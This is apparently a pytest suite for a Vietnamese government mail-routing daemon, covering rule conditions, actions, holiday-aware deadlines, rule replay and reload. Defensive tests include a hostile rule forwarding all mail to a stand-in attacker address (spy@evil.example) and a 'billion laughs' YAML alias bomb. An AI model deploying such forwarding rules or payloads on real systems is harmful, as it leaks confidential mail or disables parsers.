"""The rule language beyond the basics: every condition and action, rule tests and replay,
and the stand-in, hostile-rule and move cases end to end on the real servers."""

from __future__ import annotations

import logging
import os
import shutil
import time
from datetime import date, datetime, timedelta
from email import message_from_bytes, policy
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import yaml
from sqlalchemy import func, select

from daemon.cli import main
from daemon.db import register_entries
from daemon.errors import ConfigError
from daemon.models import (
    Address,
    Assignment,
    Attachment,
    Document,
    Hold,
    Kind,
    Move,
    ParsedMail,
    Tagging,
    Understanding,
)
from daemon.office.calendar import WorkCalendar
from daemon.routing import rules as rules_module
from daemon.routing import ruleyaml
from daemon.routing.route import decide
from daemon.routing.rules import (
    Acknowledge,
    ActionKind,
    Assign,
    Forward,
    MoveTo,
    Notify,
    Quarantine,
    Tag,
    Targets,
)
from daemon.service import RULES_CHECK_SECONDS
from tests.conftest import AUTHSERV_ID, CORPUS, RULES, Office, corpus_labels
from tests.test_inspect import AGENCY_CONFIG

VN = ZoneInfo("Asia/Ho_Chi_Minh")


def _mail(name: str = "don.pdf", sender: str = "x@sxd.gov.vn") -> ParsedMail:
    return ParsedMail(message_id="<m@x>", subject="Kế hoạch", sender=Address("", sender), to=(),
                      reply_to=(), date=None, headers={}, body="Kính gửi Sở",
                      attachments=(Attachment(name, "application/pdf", 10, "0" * 64, b""),),
                      content_types=())


def _doc(urgency: str | None = None) -> Understanding:
    doc = Document(number="5", symbol="KH-UBND", type="Kế hoạch",
                   issuer="Ủy ban nhân dân tỉnh Tây Ninh", urgency=urgency)
    return Understanding(Kind.DOCUMENT, "", None, doc, None)


def _rules(tmp_path: Path, text: str) -> rules_module.RuleSet:
    directory = tmp_path / "rules"
    directory.mkdir(exist_ok=True)
    shutil.copy(RULES / "people.yaml", directory / "people.yaml")
    (directory / "10-test.yaml").write_text(text, encoding="utf-8")
    return rules_module.load(directory)


def test_conditions_on_issuer_attachment_urgency_and_time(tmp_path: Path) -> None:
    """Issuer text, attachment type and name, urgency level, working day and hours all match."""
    ruleset = _rules(tmp_path, """
rules:
  - id: hoa-toc-ubnd
    when:
      all:
        - issuer: {contains: "uy ban nhan dan tinh"}
        - attachment_type: [pdf]
        - attachment_name: {regex: "^don"}
        - urgency: [Hỏa tốc, Thượng khẩn]
        - working_day: true
        - hours: "07:00-17:00"
    then:
      - notify: {people: [nguyen_van_an]}
""")
    monday_morning = datetime(2026, 5, 4, 9, 0, tzinfo=VN)
    monday_night = datetime(2026, 5, 4, 22, 0, tzinfo=VN)
    liberation_day = datetime(2026, 4, 30, 9, 0, tzinfo=VN)

    hit = decide(_doc("Hỏa tốc"), _mail(), ruleset, monday_morning)
    plain = decide(_doc(None), _mail(), ruleset, monday_morning)
    night = decide(_doc("Hỏa tốc"), _mail(), ruleset, monday_night)
    holiday = decide(_doc("Hỏa tốc"), _mail(), ruleset, liberation_day)
    docx = decide(_doc("Hỏa tốc"), _mail("don.docx"), ruleset, monday_morning)

    assert [a.action for a in hit.actions] == ["notify"]
    for miss in (plain, night, holiday, docx):
        assert not miss.actions, miss.rules[0].why


def test_assign_tag_move_and_quarantine_actions(tmp_path: Path) -> None:
    """assign names the units and a deadline in working days; tag, move, quarantine are effects."""
    ruleset = _rules(tmp_path, """
rules:
  - id: giao-qlxd
    when: {kind: document}
    then:
      - assign: {lead: qlxd, cooperate: [van_phong], deadline_days: 5}
      - tag: {tags: [quy-hoach]}
      - move: {folder: "Văn bản đến"}
  - id: giu-lai
    when: {subject: {contains: "kiểm tra"}}
    then:
      - quarantine: {reason: "thư cần kiểm tra"}
""")
    friday_before_tet = datetime(2027, 2, 5, 10, tzinfo=VN)

    decision = decide(_doc(), _mail(), ruleset, friday_before_tet)

    assignment = next(e for e in decision.effects if isinstance(e, Assignment))
    # 5 working days from Fri 5/2/2027: Tết closes 4–10/2; counting starts on Thu 11/2.
    assert assignment.deadline == date(2027, 2, 17)
    assert Tagging(("quy-hoach",)) in decision.effects
    assert Move("Văn bản đến") in decision.effects
    assign_mail = next(a for a in decision.actions if a.action == "assign")
    assert assign_mail.to == ("qlxd.sxd@example.gov.vn", "vanphong.sxd@example.gov.vn")
    assert "hạn giải quyết: 17/02/2027" in assign_mail.note
    held = decide(_doc(), ParsedMail(**{**_mail().__dict__, "subject": "Kiểm tra"}), ruleset,
                  friday_before_tet)
    assert Hold("thư cần kiểm tra") in held.effects and not held.actions


def test_each_action_kind_loads_as_its_own_type(tmp_path: Path) -> None:
    """Every `then:` key is read into the frozen dataclass of its kind, with typed fields;
    an unknown one is named."""
    ruleset = _rules(tmp_path, """
rules:
  - id: moi-loai
    then:
      - forward: {roles: [giam_doc]}
      - acknowledge: {template: document}
      - notify: {people: [nguyen_van_an]}
      - assign: {lead: qlxd, cooperate: [van_phong], deadline_days: 5}
      - tag: {tags: [khan]}
      - move: {folder: "Văn bản đến"}
      - quarantine: {reason: "cần kiểm tra"}
""")

    then = ruleset.rules[0].then

    assert then == (Forward(Targets(roles=("giam_doc",))), Acknowledge("document"),
                    Notify(Targets(people=("nguyen_van_an",))),
                    Assign("qlxd", ("van_phong",), 5), Tag(("khan",)), MoveTo("Văn bản đến"),
                    Quarantine("cần kiểm tra"))
    assert [action.kind for action in then] == list(ActionKind)
    with pytest.raises(ConfigError, match=r"10-test.yaml:5: unknown action 'archive'"):
        _rules(tmp_path, "rules:\n  - id: x\n    then:\n      - tag: {tags: [a]}\n"
                         "      - archive: {}\n")


def test_new_actions_are_validated(tmp_path: Path) -> None:
    """Unknown departments, bad deadlines, unknown urgency levels and bad hours are errors."""
    with pytest.raises(ConfigError) as caught:
        _rules(tmp_path, """
rules:
  - id: sai
    when: {urgency: [Gấp], hours: "9-17"}
    then:
      - assign: {lead: nowhere, deadline_days: 0}
      - tag: {}
      - quarantine: {}
      - forward: {}
""")

    text = str(caught.value)
    for expected in ("unknown urgency 'Gấp'", "hours takes 'HH:MM-HH:MM'",
                     "unknown department 'nowhere'", "deadline_days takes a positive",
                     "tag needs tags", "quarantine needs reason", "forward needs roles"):
        assert expected in text


@pytest.mark.parametrize("day,count,expected", [
    (date(2026, 4, 29), 1, date(2026, 5, 4)),   # 30/4 and 1/5 are holidays, then a weekend
    (date(2026, 8, 21), 1, date(2026, 8, 22)),  # Saturday 22/8/2026 is swapped into work
    (date(2027, 2, 3), 1, date(2027, 2, 11)),   # Tết 2027: 4–10 February
    (date(2026, 1, 1), 1, date(2026, 1, 5)),    # 2/1/2026 off (12729/VPCP-KGVX)
    (date(2026, 11, 23), 1, date(2026, 11, 24)),  # Culture Day 24/11 is only proposed
])
def test_working_days(day: date, count: int, expected: date) -> None:
    """Deadlines skip weekends, holidays and Tết, and count swapped Saturdays."""
    assert WorkCalendar().add_working_days(day, count) == expected


def test_rules_test_command(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                            monkeypatch: pytest.MonkeyPatch) -> None:
    """`vanthu rules test DIR` passes the shipped expectations and fails a wrong one."""
    monkeypatch.chdir(RULES.parent)
    config = tmp_path / "config.toml"
    config.write_text(AGENCY_CONFIG.format(authserv_id=AUTHSERV_ID, rules=RULES),
                      encoding="utf-8")
    assert main(["rules", "test", "rules/tests", "--config", str(config)]) == 0
    wrong = tmp_path / "wrong.yaml"
    wrong.write_text(f"cases:\n  - mail: {RULES.parent / 'daemon/samples/008.eml'}\n"
                     "    expect:\n      forward: [someone@else.vn]\n", encoding="utf-8")

    assert main(["rules", "test", str(tmp_path), "--config", str(config)]) == 1

    assert "FAIL wrong.yaml#1 008.eml" in capsys.readouterr().out


def test_rule_expectations_refuse_yaml_aliases(tmp_path: Path) -> None:
    """An expectations file for `rules test` is read without aliases too: a billion laughs
    there is refused at its first alias."""
    laughs = tmp_path / "laughs.yaml"
    laughs.write_text("a: &a [x, x]\nb: &b [*a, *a]\ncases: [*b]\n", encoding="utf-8")

    with pytest.raises(yaml.YAMLError, match=r"alias \(\*a\) is not allowed"):
        ruleyaml.safe_load(laughs.read_text(encoding="utf-8"))


def _office_rules(office: Office, absence_to: date | None) -> Path:
    directory = office.dir / "rules"
    directory.mkdir(exist_ok=True)
    shutil.copy(RULES / "10-routing.yaml", directory / "10-routing.yaml")
    people = (RULES / "people.yaml").read_text(encoding="utf-8")
    people = people[:people.index("absences:")] + "absences:\n"
    if absence_to is not None:
        people += (f"  - person: tran_thi_binh\n    from: {absence_to - timedelta(days=10)}\n"
                   f"    to: {absence_to}\n    reason: cách ly y tế\n"
                   "    stand_in: le_van_cuong\n")
    else:
        people += "  []\n"
    (directory / "people.yaml").write_text(people, encoding="utf-8")
    office.config_path.write_text(office.config_path.read_text().replace(
        f'dir = "{RULES}"', f'dir = "{directory}"'))
    return directory


def _forward_recipients(office: Office) -> list[list[str]]:
    out = []
    for item in office.smtp.messages():
        message = message_from_bytes(item.data, policy=policy.default)
        if message["X-Vanthu-Action"] == "forward":
            out.append(item.rcpt_tos)
    return out


def test_stand_in_during_absence_and_back_after(office: Office) -> None:
    """On real servers: while the Deputy is absent her forward goes to the stand-in with a
    note; from the day after `to`, to her again. `rules replay` shows the difference."""
    today = datetime.now(VN).date()
    _office_rules(office, absence_to=today)
    office.deliver((CORPUS / "008.eml").read_bytes())
    office.run_daemon(until=lambda: office.settled(1))

    during = _forward_recipients(office)[0]
    forward = next(message_from_bytes(m.data, policy=policy.default)
                   for m in office.smtp.messages() if b"X-Vanthu-Action: forward" in m.data)
    assert "pgd.binh.sxd@example.gov.vn" not in during
    assert "pgd.cuong.sxd@example.gov.vn" in during
    note = forward.get_body(("plain",)).get_content()  # type: ignore[union-attr]
    assert "Lê Văn Cường thay đồng chí Trần Thị Bình đang vắng mặt" in note

    _office_rules(office, absence_to=today - timedelta(days=1))  # today is `to` + 1
    office.deliver((CORPUS / "003.eml").read_bytes())
    office.run_daemon(until=lambda: office.settled(2))

    after = _forward_recipients(office)[1]
    assert "pgd.binh.sxd@example.gov.vn" in after


def test_replay_reports_what_would_change(office: Office,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    """`vanthu rules replay` re-routes stored mail under new rules and sends nothing."""
    _office_rules(office, absence_to=None)
    office.deliver((CORPUS / "008.eml").read_bytes())
    office.run_daemon(until=lambda: office.settled(1))
    sent = len(office.smtp.messages())
    _office_rules(office, absence_to=datetime.now(VN).date() + timedelta(days=3))
    capsys.readouterr()

    assert main(["rules", "replay", "--since", "2020-01-01",
                 "--config", str(office.config_path)]) == 0

    out = capsys.readouterr().out
    assert "forward:" in out and "1 mail(s) would have gone differently" in out
    assert len(office.smtp.messages()) == sent


def test_hostile_rules_cannot_break_the_safety_rules(office: Office) -> None:
    """A rule file forwarding and acknowledging everything to outsiders still never emails a
    confidential document, answers a machine, or lets a quarantined mail out."""
    directory = _office_rules(office, absence_to=None)
    (directory / "10-routing.yaml").write_text("""
rules:
  - id: leak-everything
    then:
      - forward: {addresses: [spy@evil.example]}
      - acknowledge: {}
""", encoding="utf-8")
    labels = corpus_labels()
    office.seed_corpus_cases()
    office.deliver(*[(CORPUS / label["file"]).read_bytes() for label in labels])

    office.run_daemon(until=lambda: office.settled(len(labels)), timeout=120)

    engine = office.engine()
    with engine.connect() as conn:
        entries = conn.scalar(select(func.count()).select_from(register_entries))
    engine.dispose()
    assert entries
    subjects_by_file = {}
    for label in labels:
        raw = (CORPUS / label["file"]).read_bytes()
        subjects_by_file[label["file"]] = str(message_from_bytes(
            raw, policy=policy.default)["Message-ID"]).strip()
    sent = [message_from_bytes(m.data, policy=policy.default) for m in office.smtp.messages()]
    replies_to = {str(m["In-Reply-To"]).strip() for m in sent if m["In-Reply-To"]}
    for label in labels:
        message_id = subjects_by_file[label["file"]]
        if {"no-auto-reply", "quarantine"} & set(label["must"]):
            assert message_id not in replies_to, label["file"]
        if "do-not-forward-by-email" in label["must"]:
            summary = label["document"]["summary"]
            for message in sent:
                assert not any(summary in part.get_content() for part in message.walk()
                               if part.get_content_type() == "text/plain")
    confidential_names = {"QD15-BCH.pdf", "CV96-CAT-ANKT.pdf"}
    for message in sent:
        names = {a.get_filename() for a in message.iter_attachments()}
        assert not names & confidential_names


def test_a_rule_moves_the_mail_on_the_server(office: Office) -> None:
    """A `move` action moves the routed mail to the named folder (created when missing)."""
    directory = _office_rules(office, absence_to=None)
    routing = (directory / "10-routing.yaml").read_text(encoding="utf-8")
    (directory / "10-routing.yaml").write_text(routing.replace(
        "      - acknowledge:\n          template: document",
        "      - acknowledge:\n          template: document\n"
        "      - move:\n          folder: VanBanDen", 1), encoding="utf-8")
    office.deliver((CORPUS / "008.eml").read_bytes())

    def moved() -> bool:
        client = office.imap()
        try:
            return bool(client.folder_exists("VanBanDen")
                        and client.select_folder("VanBanDen")[b"EXISTS"] == 1)
        finally:
            client.logout()

    office.run_daemon(until=moved, timeout=30)

    client = office.imap()
    assert client.select_folder("INBOX")[b"EXISTS"] == 0
    client.logout()


class Events(logging.Handler):
    """Keeps the names of the log events it sees (vanthu logs events by name)."""

    def __init__(self) -> None:
        super().__init__()
        self.events: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.events.append(record.getMessage())


def test_rules_reload_when_a_file_changes(office: Office) -> None:
    """Editing a rule file is noticed without a signal; a broken edit is rejected (logged) and
    keeps the running set."""
    from tests.conftest import wait_for
    from tests.test_watch import Running

    directory = _office_rules(office, absence_to=None)
    routing = directory / "10-routing.yaml"
    stamp = routing.stat().st_mtime

    def edit(text: str) -> None:
        """Write the file with a modification time later than any before it, so the change
        shows even on a file system with coarse timestamps, without waiting."""
        nonlocal stamp
        routing.write_text(text, encoding="utf-8")
        stamp += 10
        os.utime(routing, (stamp, stamp))

    handler = Events()
    logging.getLogger("vanthu").addHandler(handler)
    try:
        with Running(office) as running:
            before = running.daemon.rules
            edit(routing.read_text(encoding="utf-8") + (
                "\n  - id: them-mot-quy-tac\n    when: {kind: spam}\n"
                "    then:\n      - tag: {tags: [spam]}\n"))

            touched = time.monotonic()

            def reloaded() -> bool:
                """Whether the new rules run; if not yet, touch the file again now and then:
                the watcher may have taken its first look only after the edit. (Touching on
                every poll would keep the files changing, and a changing set is not loaded.)"""
                nonlocal touched
                if running.daemon.rules is not before:
                    return True
                if time.monotonic() - touched > 3 * RULES_CHECK_SECONDS:
                    edit(routing.read_text(encoding="utf-8"))
                    touched = time.monotonic()
                return False

            wait_for(reloaded, timeout=120)
            good = running.daemon.rules
            edit("rules:\n  - id: hong\n    when: {kind: nope}\n")
            wait_for(lambda: "rules.rejected" in handler.events, timeout=120)

            assert running.daemon.rules is good
    finally:
        logging.getLogger("vanthu").removeHandler(handler)
    assert good.rules[-1].id == "them-mot-quy-tac"


def test_procedure_condition_uses_the_catalogue(tmp_path: Path) -> None:
    """A dossier is matched to its catalogue procedure, and `procedure:` rules see it."""
    from daemon import config
    from daemon.understand import NoCases, understand

    shutil.copy(RULES / "procedures.yaml", tmp_path / "procedures.yaml")
    (tmp_path / "people.yaml").write_text((RULES / "people.yaml").read_text(encoding="utf-8"),
                                          encoding="utf-8")
    (tmp_path / "10-test.yaml").write_text(
        "rules:\n  - id: cchn-qlxd\n    when: {procedure: cchn}\n"
        "    then:\n      - forward: {departments: [qlxd]}\n", encoding="utf-8")
    ruleset = rules_module.load(tmp_path)
    cfg = config.load(None)
    at = datetime(2026, 5, 4, 9, tzinfo=VN)

    decisions = {}
    for name in ("017.eml", "005.eml"):
        mail, und = understand((CORPUS / name).read_bytes(), cfg, NoCases())
        decisions[name] = decide(und, mail, ruleset, at)

    assert [a.to for a in decisions["017.eml"].actions] == [("qlxd.sxd@example.gov.vn",)]
    assert not decisions["005.eml"].actions
    (tmp_path / "10-test.yaml").write_text(
        "rules:\n  - id: x\n    when: {procedure: nope}\n    then: []\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="unknown procedure 'nope'"):
        rules_module.load(tmp_path)


def test_an_emptied_rules_file_is_refused(tmp_path: Path) -> None:
    """A rules file emptied by mistake (or caught while an editor rewrites it) would silently
    drop its rules; it is refused with its name instead."""
    directory = tmp_path / "rules"
    shutil.copytree(Path(__file__).parent.parent / "rules", directory)
    (directory / "10-routing.yaml").write_text("", encoding="utf-8")
    with pytest.raises(ConfigError) as caught:
        rules_module.load(directory)
    assert any(p.file.endswith("10-routing.yaml") and "empty" in p.message
               for p in caught.value.problems)
    (directory / "10-routing.yaml").write_text("# chỉ có chú thích\n", encoding="utf-8")
    with pytest.raises(ConfigError):
        rules_module.load(directory)
